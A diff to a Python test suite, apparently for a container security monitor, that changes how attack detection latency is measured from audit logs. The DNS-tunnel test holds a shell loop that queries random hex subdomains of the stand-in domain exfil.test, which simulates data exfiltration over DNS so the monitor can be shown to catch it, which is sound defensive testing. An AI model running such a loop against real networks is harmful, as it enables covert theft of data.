@@ -61,22 +61,20 @@ def ts(s):
     return datetime.datetime.fromisoformat(s.replace("Z", "+00:00")).timestamp()
 
 
-def attack(menv, script, title, level, action, key):  # noqa: F811
+def attack(menv, script, title, level, action, key, t0=None):  # noqa: F811
     """Runs script in a fresh container (stamping its start in /workspace/.t0), waits up to 10 s for an
     event titled title; checks level, action and the container's state; returns the event."""
     t0_file = menv.ws / ".t0"
     t0_file.unlink(missing_ok=True)
-    before = {p.name for p in (menv.base / "home" / ".coi" / "audit").glob("*.jsonl")} \
-        if (menv.base / "home" / ".coi" / "audit").exists() else set()
+    audit = menv.base / "home" / ".coi" / "audit"
+    # lines already in each log (a slot's name comes back, and with it its log)
+    before = {f.name: len(f.read_text().splitlines()) for f in audit.glob("*.jsonl")} if audit.exists() else {}
     p = menv.popen("run", "--image", IMAGE, "--", "bash", "-c", f"date +%s.%N > /workspace/.t0; {script}; sleep 30")
     event, name = None, None
     deadline = time.monotonic() + 90
     while time.monotonic() < deadline and event is None:
-        audit = menv.base / "home" / ".coi" / "audit"
         for f in audit.glob("*.jsonl") if audit.exists() else []:
-            if f.name in before:
-                continue
-            for line in f.read_text().splitlines():
+            for line in f.read_text().splitlines()[before.get(f.name, 0):]:
                 e = json.loads(line)
                 if e["title"] == title:
                     event, name = e, f.name[:-len(".jsonl")]
@@ -86,7 +84,7 @@ def attack(menv, script, title, level, action, key):  # noqa: F811
             p.communicate(timeout=1)[1] if p.poll() is not None else "")
         assert (event["level"], event["action"]) == (level, action), event
         assert t0_file.exists()
-        latency = ts(event["timestamp"]) - float(t0_file.read_text())
+        latency = ts(event["timestamp"]) - (t0() if t0 else float(t0_file.read_text()))
         LATENCY[key] = latency
         assert latency < 2.0, f"{key}: detected after {latency:.2f} s"
         info = menv.coi("container", "info", name, "--format", "json")
@@ -155,10 +153,16 @@ def test_large_upload_freezes(menv, listeners):  # noqa: F811
 
 
 def test_dns_tunnel_freezes(menv, listeners):  # noqa: F811
-    script = ("for i in $(seq 40); do getent hosts $(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \\n')"
-              ".x.exfil.test >/dev/null; done")
-    e, _ = attack(menv, script, "DNS tunnelling suspected", "high", "paused", "DNS tunnel (40 names)")
+    # each query's start in /workspace/.q; the detection counts from the query that crosses the
+    # threshold (20 unique names under one domain within a minute)
+    (menv.ws / ".q").unlink(missing_ok=True)
+    script = ("for i in $(seq 40); do date +%s.%N >> /workspace/.q; getent hosts $(head -c 20 /dev/urandom | od -An "
+              "-tx1 | tr -d ' \\n').x.exfil.test >/dev/null; done")
+    e, _ = attack(menv, script, "DNS tunnelling suspected", "high", "paused", "DNS tunnel (20th name)",
+                  t0=lambda: float((menv.ws / ".q").read_text().split()[19]))
     assert e["evidence"]["dns"]["domain"] == "exfil.test"
+    first = float((menv.ws / ".q").read_text().split()[0])
+    LATENCY["DNS tunnel (from 1st name)"] = ts(e["timestamp"]) - first
 
 
 def test_ssh_key_scan_freezes(menv, listeners):  # noqa: F811
